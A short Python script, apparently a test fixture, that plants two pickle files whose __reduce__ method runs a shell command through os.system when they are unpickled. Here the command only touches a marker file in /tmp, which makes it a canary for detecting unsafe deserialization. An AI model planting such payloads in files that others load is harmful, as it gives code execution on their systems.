"""Plants a pickled .OTTER_LOG with code in it."""

import pickle
class Bomb:
    def __reduce__(self):
        import os
        return os.system, ('touch /tmp/gatelab-hostile-was-here',)
open('.OTTER_LOG', 'wb').write(pickle.dumps(Bomb()))
open('results.pkl', 'wb').write(pickle.dumps(Bomb()))
